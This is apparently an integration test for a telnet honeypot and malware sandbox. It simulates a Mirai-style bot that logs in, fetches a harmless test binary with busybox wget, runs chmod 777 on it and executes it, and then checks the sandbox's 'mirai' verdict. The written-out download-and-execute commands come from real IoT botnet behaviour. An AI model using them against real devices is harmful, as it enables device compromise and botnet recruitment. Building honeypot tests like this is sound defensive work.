"""The whole loop of the seed's IoTPOT: a bot logs in to the honeypot, makes the device download
its binary, the sample is stored, and the sandbox's verdict comes back as mitsu.box.result,
with no hand in between. The binary is a harmless Mirai-like test program (tests/data/box)."""
import hashlib
import os
import sys
import tempfile
import shutil

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from test_box import compile_bot  # noqa: E402
from test_capture import Servers, shell, sha  # noqa: E402


class PipelineTest(harness.unittest.TestCase):
    def test_download_to_verdict(self):
        tmp = tempfile.mkdtemp(prefix='mitsu-pipe-')
        srv = Servers()
        try:
            binary = os.path.join(tmp, 'mirai.arm7')
            compile_bot('mirai_like', 'arm', binary)
            with open(binary, 'rb') as f:
                data = srv.put('bins/mirai.arm7', f.read())
            srv.start_http()
            sets = ['telnet.fail_delay_ms=0', 'capture.allow_private=true', 'box.window=15']
            with harness.Sensor(sets=sets) as s:
                bot = shell(s.port)
                bot.command('cd /var/', 'ECCHI')
                bot.command('/bin/busybox wget http://%s/bins/mirai.arm7 -O - > dvrHelper; '
                            '/bin/busybox chmod 777 dvrHelper' % srv.addr, 'ECCHI')
                bot.command('./dvrHelper telnet.arm7', 'IHCCE')
                bot.close()
                ev = s.events(wait_for=('mitsu.box.result', lambda e: e.get('shasum') == sha(data)), timeout=240)
                res = [e for e in ev if e['eventid'] == 'mitsu.box.result' and e['shasum'] == sha(data)]
                # One analysis although the sample was both downloaded and executed.
                self.assertEqual(len(res), 1)
                r = res[0]
                self.assertEqual(r['arch'], 'arm')
                self.assertEqual(r['family'], 'mirai')
                self.assertTrue(r['scan']['detected'])
                self.assertTrue(r['scan']['mirai_fingerprint'])
                self.assertGreater(r['seconds'], 0)
                self.assertLess(r['seconds'], 60)
                p = harness.run_mitsu('box', '--results', '--format', 'json', data_dir=s.data_dir)
                self.assertIn(sha(data), p.stdout)
        finally:
            srv.stop()
            shutil.rmtree(tmp, ignore_errors=True)


if __name__ == '__main__':
    harness.main()
